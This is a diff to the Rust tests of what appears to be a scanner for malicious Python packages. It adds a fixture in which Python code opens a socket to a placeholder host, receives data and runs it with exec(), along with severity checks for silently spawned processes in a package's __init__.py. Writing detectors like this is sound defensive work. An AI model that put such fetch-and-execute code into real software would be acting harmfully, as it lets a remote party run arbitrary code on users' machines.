@@ -237,6 +237,13 @@ fn m4_fetched_code_executed() {
         finding(&s, Rule::DownloadExecute, 2).severity,
         Severity::High
     );
+    let src = "import socket\ndef f():\n    s = socket.create_connection(('h.invalid', 9))\n    code = s.recv(65536)\n    exec(code)\n";
+    let s = scan(src);
+    let f = finding(&s, Rule::DownloadExecute, 5);
+    assert_eq!(
+        (f.severity, f.snippet.as_str()),
+        (Severity::High, "exec(code)")
+    );
 }
 
 #[test]
@@ -436,6 +443,16 @@ def plain():
         "subprocess.Popen([\"x\"], stdout=subprocess.DEVNULL, start_new_session=True)",
     );
     assert!(!s.findings.iter().any(|f| f.line == Some(7)));
+    // In a function of a package's __init__.py it waits for a call: Medium.
+    let init = scan_as("pkg/__init__.py", src, SourceRole::Module);
+    assert_eq!(
+        finding(&init, Rule::SilentProcess, 3).severity,
+        Severity::High
+    );
+    assert_eq!(
+        finding(&init, Rule::SilentProcess, 5).severity,
+        Severity::Medium
+    );
     let setup = scan_as(
         "setup.py",
         &src.replace("P([", "pass\nQ(["),
